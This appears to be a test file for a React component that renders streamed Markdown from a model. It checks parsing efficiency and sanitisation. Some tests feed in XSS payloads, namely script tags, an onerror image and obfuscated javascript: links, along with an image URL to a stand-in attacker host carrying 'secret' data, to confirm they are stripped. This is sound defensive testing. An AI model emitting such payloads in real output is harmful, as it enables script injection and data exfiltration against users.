import { describe, expect, it, vi } from "vitest";
import { render, screen } from "@testing-library/react";

// Counts every Markdown parse, by the source it was given.
const parses = vi.hoisted(() => new Map<string, number>());
vi.mock("react-markdown", async (importOriginal) => {
  const actual = await importOriginal<typeof import("react-markdown")>();
  const Counted = (props: Parameters<typeof actual.default>[0]) => {
    const source = String(props.children ?? "");
    parses.set(source, (parses.get(source) ?? 0) + 1);
    return actual.default(props);
  };
  return { ...actual, default: Counted };
});

const { StreamingMarkdown } = await import("./StreamingMarkdown");

function answer(): string {
  const parts: string[] = ["# Report", "Some **bold** text and a [link](https://example.com)."];
  parts.push("```ts\nconst a = 1;\n\nconst b = a + 1;\n```");
  for (let i = 0; i < 12; i++) parts.push(`Paragraph ${i} says something useful.`);
  parts.push("| a | b |\n|---|---|\n| 1 | 2 |");
  parts.push("- last\n- list");
  return parts.join("\n\n");
}

describe("StreamingMarkdown", () => {
  it("renders 1,000 streamed pieces to the full text, parsing each finished block a bounded number of times", () => {
    parses.clear();
    const full = answer();
    const pieces = 1000;
    const size = Math.ceil(full.length / pieces);
    let text = "";
    const { rerender, container } = render(<StreamingMarkdown text="" />);
    for (let i = 0; i < pieces; i++) {
      text += full.slice(i * size, (i + 1) * size);
      rerender(<StreamingMarkdown text={text} />);
    }
    expect(text).toBe(full);

    // The final text is all there, rendered as Markdown.
    expect(screen.getByRole("heading", { name: "Report" })).toBeInTheDocument();
    expect(screen.getByText("bold").tagName).toBe("STRONG");
    expect(screen.getByRole("link", { name: "link" })).toHaveAttribute("rel", "noopener noreferrer");
    expect(screen.getByText("Paragraph 11 says something useful.")).toBeInTheDocument();
    expect(screen.getByRole("table")).toBeInTheDocument();
    expect(screen.getByRole("button", { name: "Copy code" })).toBeInTheDocument();
    expect(container.querySelector("pre code")?.textContent).toBe("const a = 1;\n\nconst b = a + 1;\n");
    expect(container.querySelector("code.language-ts .hljs-keyword")).not.toBeNull();

    // Each finished block was parsed once (twice at most in development
    // mode), not once per piece.
    const blocks = full.split("\n\n").length;
    const finished = ["# Report", "```ts\nconst a = 1;\n\nconst b = a + 1;\n```", "| a | b |\n|---|---|\n| 1 | 2 |"];
    for (const block of finished) expect(parses.get(block)).toBeLessThanOrEqual(2);
    for (let i = 0; i < 12; i++) {
      expect(parses.get(`Paragraph ${i} says something useful.`)).toBeLessThanOrEqual(2);
    }
    // All parses together: the growing tail once per piece plus a few per block.
    const total = [...parses.values()].reduce((a, b) => a + b, 0);
    expect(total).toBeLessThan(pieces + blocks * 3);
  }, 60_000);

  it("leaves out raw HTML written by a model", () => {
    const { container } = render(<StreamingMarkdown text={'<script>alert(1)</script>\n\n<img src=x onerror="alert(2)">'} />);
    expect(container.querySelector("script")).toBeNull();
    expect(container.querySelector("img")).toBeNull();
  });

  it("names an image instead of loading it", () => {
    const { container } = render(
      <StreamingMarkdown text={"Look: ![the chart](https://evil.example/c?d=secret)"} streaming={false} />,
    );
    expect(container.querySelector("img")).toBeNull();
    expect(screen.getByText("Image not shown: the chart (evil.example)")).toHaveAttribute(
      "title",
      "https://evil.example/c?d=secret",
    );
  });

  it("drops script links, however they are written", () => {
    const text = "[a](javascript:alert(1)) [b](JaVaScRiPt&#58;alert(2)) [c][r]\n\n[r]: javascript:alert(3)";
    const { container } = render(<StreamingMarkdown text={text} streaming={false} />);
    const hrefs = [...container.querySelectorAll("a")].map((a) => a.getAttribute("href") ?? "");
    expect(hrefs).toHaveLength(3);
    for (const href of hrefs) expect(href.toLowerCase()).not.toContain("javascript");
  });

  it("resolves a reference link defined in a later block once the answer is complete", () => {
    const text = "See [the docs][docs].\n\nMore text.\n\n[docs]: https://example.com/docs";
    const { rerender } = render(<StreamingMarkdown text={text} />);
    // While streaming, blocks are parsed alone: the reference is still text.
    expect(screen.queryByRole("link", { name: "the docs" })).toBeNull();
    rerender(<StreamingMarkdown text={text} streaming={false} />);
    expect(screen.getByRole("link", { name: "the docs" })).toHaveAttribute("href", "https://example.com/docs");
  });
});
